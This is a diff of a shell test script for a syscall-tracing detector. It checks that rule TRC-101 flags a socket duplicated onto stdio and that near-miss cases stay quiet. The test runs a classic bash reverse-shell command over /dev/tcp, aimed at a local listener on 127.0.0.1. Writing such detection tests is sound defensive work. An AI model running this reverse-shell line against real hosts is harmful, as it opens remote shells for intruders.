@@ -91,9 +91,10 @@ act s101-twin connect 127.0.0.1 "$((PORT + 1))"
 listen $((PORT + 2))
 HOME=$D HISTFILE=$D/history "$D/revsh" --norc -c "\"$D/revsh\" --norc -i >& /dev/tcp/127.0.0.1/$((PORT + 2)) 0>&1" \
 	2>>"$D/actions.err" || echo "(exit $?) revsh" >>"$D/actions.err"
-# bash's /dev/tcp on fd 3 only: stdio stays where it was
+# bash's /dev/tcp on fd 3, duplicated onto fd 4 (a socket_dup, but not
+# onto stdio: \`echo >&3' would be, for the echo's duration)
 listen $((PORT + 3))
-"$D/fdsh" --norc -c "exec 3<>/dev/tcp/127.0.0.1/$((PORT + 3)); echo exit >&3; exec 3>&-" \
+"$D/fdsh" --norc -c "exec 3<>/dev/tcp/127.0.0.1/$((PORT + 3)); exec 4>&3; exec 3>&- 4>&-" \
 	2>>"$D/actions.err" || echo "(exit $?) fdsh" >>"$D/actions.err"
 for p in $LISTENERS; do
 	wait "$p"
@@ -124,10 +125,8 @@ sl_stop
 
 fires TRC-101 stdio_over_socket s101-hit "socket connected on fd 0"
 quiet TRC-101 stdio_over_socket s101-twin "socket connected on fd 3+"
-[ -n "$(sl_match TRC-101 stdio_over_socket revsh)" ]
-todo $? "TRC-101 stdio_over_socket fires for revsh: bash -i >& /dev/tcp/... 0>&1" \
-	"no socket_dup event: a socket dup2()ed onto stdio is not seen"
-quiet TRC-101 stdio_over_socket fdsh "bash's /dev/tcp on fd 3"
+fires TRC-101 stdio_over_socket revsh "bash -i >& /dev/tcp/... 0>&1 (socket_dup onto stdio)"
+quiet TRC-101 stdio_over_socket fdsh "bash's /dev/tcp on fd 3, duplicated onto fd 4"
 fires TRC-102 anti_debugging s102-hit "PTRACE_TRACEME"
 quiet TRC-102 anti_debugging s102-twin "PTRACE_ATTACH and PEEKDATA"
 quiet TRC-102 anti_debugging s103-hit "PTRACE_POKEDATA"
